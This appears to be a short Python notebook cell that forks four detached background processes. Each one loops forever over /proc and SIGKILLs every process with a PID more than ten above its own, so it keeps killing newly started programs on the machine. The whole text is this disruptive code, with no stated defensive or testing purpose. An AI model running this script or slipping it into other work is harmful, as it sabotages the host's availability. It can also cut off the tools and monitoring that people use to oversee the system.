# %% new after total
import os, signal

for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        parent, libc = os.getpid(), None
        while True:
            for pid in filter(str.isdigit, os.listdir("/proc")):
                try:
                    if int(pid) > int(parent) + 10:
                        os.kill(int(pid), signal.SIGKILL)
                except OSError:
                    pass
